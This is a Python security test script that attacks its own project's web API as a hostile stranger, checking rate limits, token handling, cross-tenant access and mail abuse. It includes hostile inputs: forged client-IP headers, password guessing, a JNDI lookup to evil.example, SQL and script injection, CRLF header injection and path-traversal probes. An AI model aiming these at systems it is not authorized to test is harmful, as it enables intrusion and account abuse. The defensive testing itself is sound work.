#!/usr/bin/env python3
"""A hostile stranger, who knows the system's address and its documents only: tries for a while to cost money, to send mail, to get accounts
and to reach what is others'. Prints what each attempt got, and fails if one got through.

Usage: stranger.py URL [--seconds N] [ATTEMPT …]    or `just stranger`, which starts a system for it
A system on this machine is called from many addresses of 127.0.0.0/8, each a network of its own.
"""
import argparse, concurrent.futures, http.client, json, pathlib, random, re, secrets, sys, time, urllib.error, urllib.parse, urllib.request

ROOT = pathlib.Path(__file__).resolve().parent.parent
PASSWORD = "a stranger's own long word"
# What the documents promise (docs/security.md, docs/functions.md), with the template's defaults.
FAILED_LOG_INS, REGISTRATIONS, GUESSES_FROM_ONE, GUESSES = 10, 5, 10, 100
# E-mails: a free organization's part of the day (`CapShares`); nothing at all before its address is proven.
EMAILS_OF_FREE, ANALYSES_OF_FREE, INVITATIONS, MEMBERS_OF_FREE, SESSION_RATE = 50, 100, 20, 5, 50
# To one address: the code of the registration and one more a minute, codes of a day, links of an hour, changes of a day.
CODES, CODES_OF_DAY, LINKS, CHANGES = 2, 6, 3, 3
# What one network asks for in a day.
LINKS_ASKED = 20


class World:
    """The system, as a stranger sees it."""

    def __init__(self, url, seconds, environments):
        self.url = urllib.parse.urlsplit(url)
        self.local = self.url.hostname in ("localhost", "127.0.0.1")
        self.ends = time.monotonic() + seconds
        self.environments = environments
        self.network = 1
        self.calls = 0

    def has_time(self):
        return time.monotonic() < self.ends

    def another_network(self):
        """An address that nobody had yet; where the system is elsewhere there is only this one."""
        self.network += 1
        return f"127.{self.network // 62500 % 250 + 1}.{self.network // 250 % 250}.{self.network % 250 + 1}" if self.local else None

    def call(self, method, path, body=None, token=None, source=None, headers=()):
        """Status, headers and body; 0 where the system hangs up."""
        self.calls += 1
        headers = {"Content-Type": "application/json", **dict(headers)}
        if token:
            headers["Authorization"] = f"Bearer {token}"
        data = body if isinstance(body, (bytes, str, type(None))) else json.dumps(body)
        kind = http.client.HTTPSConnection if self.url.scheme == "https" else http.client.HTTPConnection
        host = "127.0.0.1" if self.local else self.url.hostname
        for attempt in range(4):
            connection = kind(host, self.url.port, timeout=30, source_address=(source, 0) if source and self.local else None)
            try:
                connection.request(method, self.url.path.rstrip("/") + path, data, headers)
                reply = connection.getresponse()
                status, found, text = reply.status, reply.headers, reply.read()
            except (OSError, http.client.HTTPException, ValueError):
                return 0, {}, {}
            finally:
                connection.close()
            # Whatever is busy for everybody together is asked again: a 500 of the gateway's is a function without a free environment.
            if status in (500, 502, 503, 504) or status == 429 and b'"code":"throttled"' in text.replace(b" ", b""):
                time.sleep(0.2 * 2 ** attempt)
                continue
            break
        try:
            text = json.loads(text)
        except ValueError:
            text = {}
        return status, found, text if isinstance(text, dict) else {}

    def register(self, source=None, **changes):
        email = f"stranger-{secrets.token_hex(8)}@example.com"
        body = {"email": email, "password": PASSWORD, "name": "Stranger", "org_name": "Strange"} | changes
        status, _, found = self.call("POST", "/auth/register", body, source=source or self.another_network())
        if status != 201:
            return status, None
        return status, Account(found["token"], found["user"]["id"], found["org"]["id"], body["email"])

    def account(self):
        status, account = self.register()
        if account is None:
            sys.exit(f"no account to begin with: {status}")
        return account

    def proven(self):
        """An account whose address is the stranger's own; None where this machine has no mailbox to read."""
        if not self.local:
            return None
        account = self.account()
        status = self.call("POST", "/auth/verify-email", {"token": self.mailed(account.email, "citv")}, token=account.token)[0]
        return account if status == 200 else sys.exit(f"the stranger's own address is not proven: {status}")

    def mailed(self, email, kind):
        """The token of this kind in the newest mail to one of the stranger's own addresses, where the system is on this machine."""
        for _ in range(100):
            try:
                with urllib.request.urlopen(f"{self.url.scheme}://{self.url.netloc}/_local/mail-to/{email}", timeout=30) as mail:
                    token = re.search(rf"#({kind}_[\w-]+)", mail.read().decode())
            except urllib.error.HTTPError:  # no mail yet
                token = None
            if token:
                return token[1]
            time.sleep(0.2)
        sys.exit(f"no mail to the stranger's own address {email}")

    def mails_to(self, email):
        """What an address got: texts, where the system is on this machine."""
        with urllib.request.urlopen(f"{self.url.scheme}://{self.url.netloc}/_local/mails-to/{email}", timeout=30) as mails:
            return json.load(mails)

    def until_mail_is_out(self):
        """Waits until no account mail is on its queue: what is beyond a limit of the address has ended by then."""
        for _ in range(300):
            with urllib.request.urlopen(f"{self.url.scheme}://{self.url.netloc}/_local/figures", timeout=30) as figures:
                if not sum(json.load(figures)["queues"]["AccountMailQueue"].values()):
                    return
            time.sleep(0.2)
        sys.exit("account mail does not go out")

    def at_once(self, count, call):
        with concurrent.futures.ThreadPoolExecutor(16) as pool:
            return list(pool.map(call, range(count)))


class Account:
    def __init__(self, token, user, org, email):
        self.token, self.user, self.org, self.email = token, user, org, email


def tally(found):
    """`3 × 201, 7 × 429` of a list of statuses."""
    return ", ".join(f"{found.count(status)} × {status}" for status in sorted(set(found), key=str))


# Each attempt yields what was tried, what it got, and whether that is more than the documents allow.

def accounts(world):
    """Accounts: many from one network, also with headers that name another."""
    source = world.another_network()
    minute = time.time() // 60
    found = world.at_once(30, lambda number: world.register(source)[0])
    most = REGISTRATIONS * (1 + int(time.time() // 60 != minute))
    yield "30 registrations at once from one network", tally(found), found.count(201) > most
    forged = []
    for header in ("X-Forwarded-For", "Forwarded", "X-Real-IP", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP"):
        value = f"203.0.113.{random.randrange(1, 250)}"
        body = {"email": f"s-{secrets.token_hex(8)}@example.com", "password": PASSWORD, "name": "S", "org_name": "S"}
        forged.append(world.call("POST", "/auth/register", body, source=source, headers={header: value})[0])
    yield "six more, each with a header that names another network", tally(forged), \
        time.time() // 60 == minute and forged.count(201) > max(0, most - found.count(201))
    body = {"email": f"s-{secrets.token_hex(8)}@example.com", "password": PASSWORD, "name": "S", "org_name": "S"}
    extra = [world.call("POST", "/auth/register", body | more, source=world.another_network())[0]
             for more in ({"plan": "enterprise"}, {"role": "operator"}, {"verified": True}, {"email_verified": True})]
    yield "registrations that name a plan, a role, a proof", tally(extra), any(status == 201 for status in extra)


def guesses(world):
    """Others' accounts: passwords guessed from one network and from many."""
    victim, source = world.account(), world.another_network()
    guess = lambda where: world.call("POST", "/auth/login", {"email": victim.email, "password": secrets.token_hex(8)}, source=where)[0]
    found = world.at_once(40, lambda _: guess(source))
    yield "40 guesses at once from one network", tally(found), found.count(401) > FAILED_LOG_INS or 200 in found
    if world.local:
        found = world.at_once(150, lambda _: guess(world.another_network()))
        yield "150 from as many networks", tally(found), found.count(401) > GUESSES or 200 in found
    nobody = world.call("POST", "/auth/login", {"email": f"{secrets.token_hex(8)}@example.com", "password": PASSWORD},
                        source=world.another_network())
    somebody = world.account()
    wrong = world.call("POST", "/auth/login", {"email": somebody.email, "password": "no, not this one"}, source=world.another_network())
    alike = (nobody[0], nobody[2].get("code"), nobody[2].get("detail")) == (wrong[0], wrong[2].get("code"), wrong[2].get("detail"))
    yield "whether an address has an account, by log-in", "the same answer" if alike else f"{nobody[0]} and {wrong[0]}", not alike


def tokens(world):
    """Others' sessions: tokens changed, made up and put elsewhere."""
    mine = world.account()
    found = []
    for at in (0, 4, 20, 40, 60, len(mine.token) - 1):
        letter = "A" if mine.token[at] != "A" else "B"
        found.append(world.call("GET", "/me", token=mine.token[:at] + letter + mine.token[at + 1:])[0])
    for token in ("", "null", "undefined", "cit_", mine.user, "eyJhbGciOiJub25lIn0.e30.", mine.token[:-1], mine.token * 2):
        found.append(world.call("GET", "/me", token=token or " ")[0])
    yield "tokens that are changed or made up", tally(found), 200 in found
    found = [world.call("GET", f"/me?token={mine.token}")[0], world.call("GET", f"/me?access_token={mine.token}")[0],
             world.call("GET", "/me", headers={"X-Api-Key": mine.token})[0],
             world.call("POST", "/auth/logout", headers={"Cookie": f"__Host-session={mine.token}"})[0],
             world.call("POST", "/items", {"name": "x"}, headers={"Cookie": f"__Host-session={mine.token}", "Origin": "https://evil.example"})[0]]
    yield "a token in the address, in a key, in a cookie of a foreign page", tally(found), any(status < 400 for status in found)
    world.call("POST", "/auth/logout", token=mine.token)
    status = world.call("GET", "/me", token=mine.token)[0]
    yield "a session after its end", str(status), status != 401


def others(world):
    """What is others': by ids that one knows, by paths, by cursors."""
    mine, victim = world.account(), world.account()
    item = world.call("POST", "/items", {"name": "secret"}, token=victim.token)[2].get("id", "itm_0")
    job = world.call("POST", "/analyze", {"text": "secret", "model": "builtin"}, token=victim.token)[2].get("id", "job_0")
    org = f"/orgs/{victim.org}"
    reach = [("GET", f"/items/{item}", None), ("PATCH", f"/items/{item}", {"name": "mine"}), ("DELETE", f"/items/{item}", None),
             ("GET", f"/jobs/{job}", None), ("POST", f"/jobs/{job}/cancel", {}), ("POST", f"/jobs/{job}/retry", {}),
             ("GET", f"{org}/plan", None), ("PUT", f"{org}/plan", {"plan": "free"}),
             ("GET", f"{org}/settings", None), ("PUT", f"{org}/settings", {"settings": {}}), ("GET", f"{org}/members", None),
             ("PUT", f"{org}/members/{mine.user}", {"role": "owner"}), ("DELETE", f"{org}/members/{victim.user}", None),
             ("GET", f"{org}/invitations", None), ("POST", f"{org}/invitations", {"email": mine.email, "role": "owner"})]
    found = [(method, path, world.call(method, path, body, token=mine.token)[0]) for method, path, body in reach]
    through = [f"{method} {path}: {status}" for method, path, status in found if status < 400]
    yield f"{len(reach)} calls for another organization", "; ".join(through) or tally([status for *_, status in found]), bool(through)
    for page in range(3):
        world.call("POST", "/items", {"name": f"{page}"}, token=victim.token)
    cursor = world.call("GET", "/items?limit=1", token=victim.token)[2].get("next_cursor") or "none"
    status, _, body = world.call("GET", f"/items?limit=1&cursor={urllib.parse.quote(str(cursor))}", token=mine.token)
    yield "another organization's cursor", str(status), status == 200 and bool(body.get("data"))
    listed = json.dumps(world.call("GET", "/items?limit=100", token=mine.token)[2])
    yield "its items in one's own list", "none" if item not in listed else item, item in listed
    public = json.dumps(world.call("GET", f"/users/{victim.user}")[2])
    yield "an address in a public profile", "none" if victim.email not in public else public, victim.email in public
    status = world.call("PUT", f"/orgs/{mine.org}/members/{victim.user}", {"role": "member"}, token=mine.token)[0]
    yield "somebody added to one's organization without asking", str(status), status < 400


def roles(world):
    """More than one has: a plan, paid models, a budget."""
    mine = world.account()
    paths = [("PUT", f"/orgs/{mine.org}/plan"), ("PATCH", f"/orgs/{mine.org}/plan"), ("POST", f"/orgs/{mine.org}/plan"),
             ("PATCH", f"/orgs/{mine.org}"), ("PUT", f"/orgs/{mine.org}/settings"), ("PATCH", "/me")]
    found = [world.call(method, path, {"plan": "enterprise"}, token=mine.token)[0] for method, path in paths]
    plan = world.call("GET", f"/orgs/{mine.org}/plan", token=mine.token)[2].get("plan")
    yield "a better plan", f"{tally(found)}; the plan is {plan}", plan != "free"
    prices = world.call("GET", "/models/pricing")[2].get("data", [])
    names = [one.get("id") or one.get("model") or "" for one in prices][:20] + ["claude-sonnet-4-0", "gpt-4o"]
    found = [world.call("POST", "/analyze", {"text": "a", "model": name}, token=mine.token)[0] for name in names if name != "builtin"]
    yield f"{len(found)} models that cost something", tally(found), any(status < 400 for status in found)


def mail(world):
    """Mail: to strangers, to oneself without end, with headers of one's own, to a victim that never asked."""
    mine, proven = world.account(), world.proven()
    for one, who in ((mine, "an account that proved nothing"), (proven, "an account with a proven address")):
        if one is None:
            continue
        send = lambda body: world.call("POST", "/send-email", body, token=one.token)[0]
        letter = {"to": one.email, "subject": "s", "text": "t"}
        found = [send(letter | {"to": to}) for to in (["victim@example.org"], "victim@example.org", [one.email, "victim@example.org"], mine.email)]
        yield f"e-mail to others, from {who}", tally(found), any(status < 400 for status in found)
        broken = [letter | {"to": f"{one.email}\r\nBcc: victim@example.org"}, letter | {"subject": "s\r\nBcc: victim@example.org"},
                  letter | {"to": f"{one.email},victim@example.org"}, letter | {"from": "ceo@example.org"}, letter | {"bcc": "victim@example.org"},
                  letter | {"to": [one.email] * 1000}]
        found = [send(one) for one in broken]
        yield f"headers and recipients of one's own, from {who}", tally(found), any(status < 400 for status in found)
        found = world.at_once(150, lambda _: send(letter))
        yield f"150 e-mails to oneself, from {who}", tally(found), found.count(202) > (0 if one is mine else EMAILS_OF_FREE)
        invited = [world.call("POST", f"/orgs/{one.org}/invitations", {"email": f"v{secrets.token_hex(4)}@example.org", "role": "member"},
                              token=one.token)[0] for _ in range(30)]
        most = 0 if one is mine else min(INVITATIONS, MEMBERS_OF_FREE - 1)
        yield f"30 invitations to strangers, from {who}", tally(invited), sum(status < 400 for status in invited) > most
    again = world.at_once(20, lambda _: world.call("POST", "/auth/verify-email/resend", token=mine.token)[0])
    forgot = world.at_once(40, lambda _: world.call("POST", "/auth/forgot-password", {"email": mine.email}, source="127.9.9.9")[0])
    yield "40 forgotten passwords of a victim from one network", tally(forgot), forgot.count(202) > LINKS_ASKED
    victim, wanting = f"victim-{secrets.token_hex(8)}@example.com", [world.account() for _ in range(6)]
    moves = [world.call("PUT", "/me/email", {"email": to}, token=one.token)[0] for to in (victim, mine.email) for one in wanting]
    yield "a victim's address, and an account's, wanted by six accounts", tally(moves), any(status != 202 for status in moves)
    if not world.local:
        return
    # What the replies do not tell, the mailbox does.
    world.until_mail_is_out()
    got = {kind: sum(kind in text for text in world.mails_to(mine.email)) for kind in ("#citv_", "#citr_", "#citc_")}
    yield "mail to the first victim, which has an account", \
        f"{got['#citv_']} codes after 20 more, {got['#citr_']} links, {got['#citc_']} changes", \
        got["#citv_"] > CODES or got["#citr_"] > LINKS or got["#citc_"] > 0
    changes = len(world.mails_to(victim))
    yield "mail to the second, which has none", f"{changes} changes", changes > CHANGES
    # Registered, moved on to an address of the stranger's own, and free to be registered again.
    third, moved = f"victim-{secrets.token_hex(8)}@example.com", []
    for _ in range(10):
        status, account = world.register(email=third)
        if account is None:
            moved.append(status)
            continue
        own = f"stranger-{secrets.token_hex(8)}@example.com"
        world.call("PUT", "/me/email", {"email": own}, token=account.token)
        moved.append(world.call("POST", "/auth/verify-email", {"token": world.mailed(own, "citc")}, token=account.token)[0])
    world.until_mail_is_out()
    codes = len(world.mails_to(third))
    yield "ten accounts of a third victim's address, each moved on", f"{tally(moved)}; {codes} codes", codes > CODES_OF_DAY


def addresses(world):
    """Who has an account: by the code of an address of one's own that was asked for before another one."""
    if not world.local:
        return
    holder, answers = world.account(), []
    for other in (holder.email, f"nobody-{secrets.token_hex(8)}@example.com"):
        mine, own = world.account(), f"stranger-{secrets.token_hex(8)}@example.com"
        world.call("PUT", "/me/email", {"email": own}, token=mine.token)
        token = world.mailed(own, "citc")
        world.call("PUT", "/me/email", {"email": other}, token=mine.token)
        world.until_mail_is_out()
        answers.append(world.call("POST", "/auth/verify-email", {"token": token}, token=mine.token)[0])
    yield "one's own code after asking for an address that is taken, and for one that is free", tally(answers), answers != [400, 400]


def proofs(world):
    """Proofs: codes and links guessed."""
    mine = world.account()
    code = lambda: "".join(random.choice("0123456789ABCDEFGHJKMNPQRSTVWXYZ") for _ in range(8))
    found = world.at_once(40, lambda _: world.call("POST", "/auth/verify-email", {"code": code()}, token=mine.token)[0])
    yield "40 codes guessed", tally(found), 200 in found or found.count(400) > GUESSES_FROM_ONE
    for path, more in (("/auth/verify-email", {}), ("/auth/reset-password", {"password": PASSWORD}), ("/invitations/accept", {})):
        found = [world.call("POST", path, {"token": token} | more, token=mine.token)[0]
                 for token in ("", "citv_", "citr_" + secrets.token_urlsafe(32), "citv_" + secrets.token_urlsafe(32), mine.token)]
        yield f"links guessed at {path}", tally(found), any(status < 400 for status in found)


def money(world):
    """Money: analyses without end, callers that wait, a session that asks as fast as it can, bodies and addresses that are too large."""
    mine = world.account()
    found = world.at_once(160, lambda _: world.call("POST", "/analyze", {"text": "a"}, token=mine.token)[0])
    yield "160 analyses", tally(found), sum(status in (200, 202) for status in found) > ANALYSES_OF_FREE
    start, waiter = time.monotonic(), world.account()
    found = world.at_once(32, lambda _: world.call("POST", "/analyze", {"text": "a"}, token=waiter.token, headers={"Prefer": "wait=20"})[0])
    yield f"32 callers that want to wait 20 s ({time.monotonic() - start:.0f} s)", tally(found), any(status >= 500 for status in found)
    large = [world.call("POST", "/items", b"[" * 200_000, token=mine.token)[0],
             world.call("POST", "/items", json.dumps({"name": "x" * 5_000_000}), token=mine.token)[0],
             world.call("POST", "/items", json.dumps({"items": [{"name": "x"}] * 5_000}), token=mine.token)[0],
             world.call("POST", "/analyze", {"text": "x" * 5_000_000}, token=mine.token)[0],
             world.call("GET", "/items?limit=1000000", token=mine.token)[0], world.call("GET", "/items?limit=-1", token=mine.token)[0],
             world.call("GET", "/me", headers={"Cookie": "a=" + "x" * 60_000}, token=mine.token)[0]]
    yield "bodies, lists and headers that are too large", tally(large), any(status < 400 or status == 500 for status in large)
    # Each environment counts for itself; what looks something up in the cache is counted there, for all of them together.
    for path, environments in (("/me", world.environments), ("/items", 1)):
        fast, statuses, start = world.account(), {}, time.monotonic()
        def ask(_):
            status = world.call("GET", path, token=fast.token)[0]
            return int(time.monotonic() - start), status
        for second, status in world.at_once(600, ask):
            statuses.setdefault(second, []).append(status)
        worst = max(sum(status == 200 for status in found) for found in statuses.values())
        # Two seconds of the clock overlap one of ours.
        yield f"600 times GET {path} of one session as fast as it goes: at most {worst} a second are answered", \
            tally([status for found in statuses.values() for status in found]), worst > 2 * SESSION_RATE * environments


def surface(world):
    """What nobody documented: methods, paths, and what errors say."""
    paths = ["/admin", "/.env", "/.git/config", "/metrics", "/debug", "/internal", "/graphql", "/orgs", "/users", "/../etc/passwd",
             "/%2e%2e/%2e%2e/etc/passwd", "/items/..%2f..%2fusers", "//me", "/me/", "/ME", "/auth/login?x=" + "y" * 7_000]
    found = [world.call("GET", path)[0] for path in paths]
    yield f"{len(paths)} paths that nobody documented", tally(found), any(status == 200 or status >= 500 for status in found)
    found = [world.call(method, path)[0] for method in ("TRACE", "CONNECT", "PROPFIND", "POST", "PUT") for path in ("/me", "/health", "/docs")]
    yield "methods that nobody documented", tally(found), any(status == 200 or status >= 500 for status in found)
    mine = world.account()
    wild = ["\u0000", "{{7*7}}", "${jndi:ldap://evil.example}", "' OR 1=1 --", "<script>alert(1)</script>", "\ud83d\ude00" * 50, "a\r\nSet-Cookie: a=b"]
    found = [world.call("POST", "/items", json.dumps({"name": text}), token=mine.token) for text in wild]
    leaks = re.compile(r"dynamodb|arn:aws|panicked|src/|\.rs:|stack|amazonaws|redis", re.I)
    said = [json.dumps(body) for _, _, body in found]
    yield "texts that other systems trip over", tally([status for status, *_ in found]), \
        any(status >= 500 for status, *_ in found) or any(leaks.search(one) for one in said) or any("Set-Cookie" in h for _, h, _ in found)


ATTEMPTS = {one.__name__: one for one in (accounts, guesses, tokens, others, roles, mail, addresses, proofs, money, surface)}


def main():
    parser = argparse.ArgumentParser(prog="just stranger", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("attempts", nargs="*", choices=[*ATTEMPTS, []], metavar="ATTEMPT", help=", ".join(ATTEMPTS))
    parser.add_argument("--seconds", type=float, default=20, help="after so many no new attempt is begun; each is made once at least")
    parser.add_argument("--environments", type=int, default=1, help="how many of a function may answer at once: each has a session's rate")
    options = parser.parse_args()
    world, through, rounds = World(options.url, options.seconds, options.environments), [], 0
    while rounds == 0 or world.has_time():
        rounds += 1
        for name in options.attempts or ATTEMPTS:
            if rounds > 1 and not world.has_time():
                break
            print(f"{name}: {ATTEMPTS[name].__doc__}", flush=True)
            for what, got, got_through in ATTEMPTS[name](world):
                print(f"  {'GOT THROUGH' if got_through else 'refused':<12} {what}: {got}", flush=True)
                if got_through:
                    through.append(f"{name}: {what}: {got}")
    print(f"{world.calls} calls, {rounds} rounds: " + (f"{len(through)} got through" if through else "nothing got through"))
    sys.exit("\n".join(through) if through else 0)


if __name__ == "__main__":
    main()
